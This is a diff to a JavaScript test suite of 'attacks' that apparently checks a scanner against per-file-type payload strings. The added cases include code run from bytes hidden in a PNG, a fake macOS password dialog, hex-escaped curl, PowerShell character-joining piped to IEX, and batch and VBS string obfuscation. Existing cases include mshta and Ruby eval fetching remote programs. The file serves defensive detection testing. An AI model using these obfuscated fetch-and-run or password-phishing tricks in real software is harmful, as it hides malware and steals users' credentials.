@@ -153,6 +153,21 @@ describe("attacks", () => {
     ],
     ["setup.bat", "carets", `m^shta https://files.invalid/a.hta`],
     ["setup.vbs", "an encoded program", `Execute(StrReverse("1 ohce"))`],
+    [
+      "index.js",
+      "a picture that is run",
+      `const b = fs.readFileSync(path.join(__dirname, "logo.png")); new Function(b.subarray(900).toString())();`,
+    ],
+    [
+      "run.sh",
+      "a window that asks for a password",
+      `osascript -e 'display dialog "Password:" with hidden answer'`,
+    ],
+    ["run.sh", "letters as escapes", String.raw`$'\x63\x75\x72\x6c' http://files.invalid`],
+    ["setup.ps1", "letters that are joined", `-join ([char[]](105,101,120)) | IEX`],
+    ["setup.ps1", "letters of a path", `& ($env:ComSpec[4,24,25] -join '') $x`],
+    ["setup.bat", "letters of a variable", `%a:~1,1%%a:~2,1%%a:~3,1%%a:~4,1%%a:~5,1%%a:~6,1%`],
+    ["setup.vbs", "letters that are put together", `x = ${"Chr(99) & ".repeat(9)}Chr(1)`],
     ["setup.rb", "a fetched program", `eval(Net::HTTP.get(URI('https://files.invalid/raw')))`],
     ["setup.rb", "an encoded program", `eval(Base64.decode64("cHV0cyAx"))`],
   ])("holds %s for %s", async (path, _, payload) => {
